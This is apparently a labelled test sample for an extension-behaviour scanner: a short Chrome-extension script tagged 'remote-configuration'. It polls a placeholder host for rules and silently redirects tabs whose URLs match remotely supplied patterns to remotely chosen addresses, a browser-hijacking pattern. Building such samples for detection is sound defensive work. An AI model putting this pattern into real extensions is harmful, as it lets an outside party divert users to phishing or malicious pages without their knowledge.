// expect: remote-configuration
let cfg; const upd = async () => { cfg = await fetch("https://x.example/c").then((r) => r.json()); }; setInterval(upd, 1e6); chrome.tabs.onUpdated.addListener((id, i, t) => { for (const r of cfg.rules) if (new RegExp(r.m).test(t.url)) chrome.tabs.update(id, { url: r.to }); });
